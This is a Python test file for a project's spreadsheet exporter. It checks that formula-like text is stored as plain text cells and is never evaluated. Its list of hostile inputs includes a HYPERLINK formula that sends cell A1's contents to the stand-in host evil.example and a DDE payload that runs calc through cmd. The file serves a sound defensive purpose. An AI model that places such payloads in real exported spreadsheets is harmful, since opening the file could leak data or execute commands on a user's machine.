"""The one workbook writer: text goes in as a text cell, never a formula or an error value,
in ordinary and write-only workbooks alike, and reads back exactly as written."""

import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.styles import Font

from workplan.core.workbooks import append_row, new_workbook, workbook_bytes, write_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "=",
    "#N/A",
    "#DIV/0!",
    "0012",
]


def sheet_xml(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        ]


def cell_types(xml: str) -> list[str]:
    """Return the t= attribute of every non-empty cell."""
    return re.findall(r'<c r="[A-Z]+\d+"(?: s="\d+")? t="(\w+)"', xml)


def test_text_is_written_as_text_cells_in_an_ordinary_workbook():
    workbook = new_workbook()
    sheet = workbook.active
    for row, value in enumerate(HOSTILE, start=1):
        write_cell(sheet, row, 1, value).font = Font(bold=True)
    data = workbook_bytes(workbook)
    [xml] = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    assert cell_types(xml) == ["inlineStr"] * len(HOSTILE)
    read = load_workbook(io.BytesIO(data)).active
    assert [read.cell(r, 1).value for r in range(1, len(HOSTILE) + 1)] == HOSTILE
    assert read.cell(1, 1).font.bold


def test_text_is_written_as_text_cells_in_a_write_only_workbook():
    workbook = new_workbook(write_only=True)
    sheet = workbook.create_sheet("log")
    append_row(sheet, ["heading"], font=Font(bold=True))
    for value in HOSTILE:
        append_row(sheet, [date(2024, 6, 1), value, 7, None, value])
    data = workbook_bytes(workbook)
    [xml] = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml
    read = load_workbook(io.BytesIO(data)).active
    rows = list(read.iter_rows(values_only=True))
    assert rows[0][0] == "heading"
    assert read.cell(1, 1).font.bold
    assert [row[1] for row in rows[1:]] == HOSTILE
    assert [row[4] for row in rows[1:]] == HOSTILE
    assert rows[1][0].date() == date(2024, 6, 1) and rows[1][2] == 7 and rows[1][3] is None


def test_numbers_and_dates_keep_their_types():
    workbook = new_workbook()
    sheet = workbook.active
    write_cell(sheet, 1, 1, 0.8).number_format = "0%"
    write_cell(sheet, 1, 2, 12)
    write_cell(sheet, 1, 3, None)
    read = load_workbook(io.BytesIO(workbook_bytes(workbook))).active
    assert (read["A1"].value, read["A1"].number_format, read["B1"].value) == (0.8, "0%", 12)
    assert read["C1"].value is None


@pytest.mark.parametrize("workbook_kind", ["ordinary", "write_only"])
def test_control_characters_a_sheet_cannot_hold_are_dropped(workbook_kind):
    """XML 1.0 cannot carry them, so openpyxl refuses the cell; the export must still work."""
    workbook = new_workbook(write_only=workbook_kind == "write_only")
    if workbook_kind == "write_only":
        append_row(workbook.create_sheet("s"), ["=a\x07b\x00c\x1bd"])
    else:
        write_cell(workbook.active, 1, 1, "=a\x07b\x00c\x1bd")
    data = workbook_bytes(workbook)
    assert load_workbook(io.BytesIO(data)).active["A1"].value == "=abcd"


def test_only_the_writer_makes_workbooks():
    """Every export goes through workplan.core.workbooks, so none can write a formula by mistake."""
    source = Path(__file__).resolve().parents[2]
    makers = [
        str(path.relative_to(source))
        for path in source.rglob("*.py")
        if "tests" not in path.parts
        and re.search(
            r"\bWorkbook\(|WriteOnlyCell|from openpyxl import .*\bWorkbook\b", path.read_text()
        )
    ]
    assert makers == ["core/workbooks.py"]
